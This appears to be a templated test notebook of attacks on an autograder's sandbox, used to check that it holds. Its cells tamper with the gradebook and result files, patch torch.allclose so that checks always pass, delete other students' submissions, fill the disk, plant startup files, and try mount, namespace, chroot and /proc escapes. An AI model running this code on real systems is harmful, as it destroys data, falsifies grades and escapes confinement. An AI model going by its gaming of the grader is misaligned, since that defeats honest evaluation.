# %% [markdown]
# # Writing and leaving things behind
# `@marker@` is what the test looks for afterwards: in file names, command lines and sockets.

# %% attack="write_outside" tries="write files wherever there is a folder"
import os
import site
import sys

places = ["@course@", "@repository@", "@home@", "/", "/usr", "/etc", "/tmp", "/var/tmp", "/dev/shm", "/run", "/dev", "@tmp@"]
places += ["@course@/submitted", "@repository@/helpers", "@repository@/grading", "..", "../..", sys.prefix]
places += [*site.getsitepackages(), os.environ.get("XDG_CACHE_HOME", "/"), os.environ.get("MPLCONFIGDIR", "/")]
for place in places:
    try:
        with open(f"{place}/@marker@", "w") as file:
            file.write("@marker@")
        print("wrote", place)
    except OSError as error:
        print(error)

# %% attack="gradebook" tries="give itself points in the gradebook and in its result"
import json
import sqlite3

try:
    with sqlite3.connect("@course@/gradebook.db", timeout=1) as gradebook:
        gradebook.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
except sqlite3.Error as error:
    print(error)
for place in ("@course@/autograded/mallory/02_manual/result.json", "../../result", "../result", "result"):
    try:
        with open(place, "w") as file:
            json.dump({"status": "graded", "points": 39, "maximum": 39, "checks": []}, file)
    except OSError as error:
        print(error)

# %% attack="links_out" tries="write through links that point outside"
import os

targets = ["@course@/gradebook.db", "@course@/source/02_manual/02_manual.ipynb", "@home@/.netrc", "@tmp@/@marker@"]
for i, target in enumerate(targets):
    for make in (os.symlink, os.link):
        try:
            make(target, f"out{i}")
            with open(f"out{i}", "a") as file:
                file.write("@marker@")
        except OSError as error:
            print(error)

# %% attack="delete_others" tries="delete other submissions, and the folders of those who are being graded"
import os
import shutil

for folder in ("@course@/submitted", "@course@/autograded", "@tmp@"):
    for name in os.listdir(folder) if os.path.isdir(folder) else ():
        shutil.rmtree(os.path.join(folder, name), ignore_errors=True)
    shutil.rmtree(folder, ignore_errors=True)

# %% attack="fill_the_disk" tries="fill every place where it may write"
block = b"x" * 2**22
for place in (".", "/tmp", "/dev/shm", "/var/tmp", "@repository@/grading", "@tmp@"):
    written = 0
    try:
        for i in range(8):
            with open(f"{place}/@marker@{i}", "wb") as file:
                for _ in range(48):
                    written += file.write(block)
    except OSError as error:
        print(error)
    print(place, written)

# %% attack="fill_the_inodes" tries="make files until no more can be made, here and in folders of others"
for place in (".", "/tmp", "/dev/shm"):
    try:
        for i in range(60_000):
            open(f"{place}/@marker@{i}", "w").close()
    except OSError as error:
        print(place, i, error)

# %% attack="start_up_files" status="partial" tries="leave start-up files for the next guest, then end this one"
import os
import site
import sys

code = "open('/tmp/@marker@', 'w').close(); import torch; torch.allclose = lambda *a, **k: True; print('started')"
places = [os.path.expanduser(f"~/{name}") for name in ("sitecustomize.py", "usercustomize.py")]
places += [os.path.expanduser("~/.ipython/profile_default/startup/00.py"), "../ipython/profile_default/startup/00.py"]
places += [f"{site.getusersitepackages()}/a.pth", f"{site.getsitepackages()[0]}/a.pth", "ipython_config.py"]
places += [os.path.expanduser("~/.local/share/jupyter/kernels/python3/kernel.json"), "torch.py", "json.py"]
for place in places:
    try:
        os.makedirs(os.path.dirname(place) or ".", exist_ok=True)
        open(place, "w").write(code)
    except OSError as error:
        print(error)


def lie(name, *args):
    if name == "init_params":
        os._exit(1)


# %% attack="remount" tries="make what it sees writable, or see more, with mount, chroot and new namespaces"
import ctypes
import os
import subprocess

libc = ctypes.CDLL(None, use_errno=True)
calls = {
    "remount": lambda: libc.mount(None, b"/", None, 32, None),
    "bind": lambda: libc.mount(b"/proc/1/root", b"/tmp", None, 4096, None),
    "proc": lambda: libc.mount(b"proc", b"/tmp", b"proc", 0, None),
    "umount": lambda: libc.umount2(b"/tmp", 2),
    "umount of grading": lambda: libc.umount2(b"@repository@/grading", 2),
    "unshare": lambda: libc.unshare(2**28 | 2**17),
    "chroot": lambda: libc.chroot(b".."),
    "setuid": lambda: libc.setuid(0),
}
for name, call in calls.items():
    print(name, call(), os.strerror(ctypes.get_errno()))
for number in os.listdir("/proc"):
    if number.isdigit():
        for kind in ("user", "mnt", "net", "pid"):
            try:
                print(libc.setns(os.open(f"/proc/{number}/ns/{kind}", os.O_RDONLY), 0))
            except OSError as error:
                print(error)
unshared = "mount -t tmpfs none /tmp; touch /tmp/@marker@; cat @course@/gradebook.db"
for command in (["unshare", "-Urm"], ["bwrap", "--bind", "/", "/"]):
    print(subprocess.run([*command, "sh", "-c", unshared], capture_output=True, timeout=2, stdin=subprocess.DEVNULL))

# %% attack="system_settings" tries="change settings of the machine through /proc and /sys"
import glob

for place in ["/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/self/oom_score_adj", "/proc/1/oom_score_adj"]:
    for word in ("-1000", "h", "|/tmp/@marker@"):
        try:
            open(place, "w").write(word)
            print("wrote", place, word)
        except OSError as error:
            print(error)
for place in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True) + ["/proc/self/loginuid", "/proc/self/uid_map"]:
    try:
        open(place, "w").write("0 0 1")
        print("wrote", place)
    except OSError as error:
        print(error)
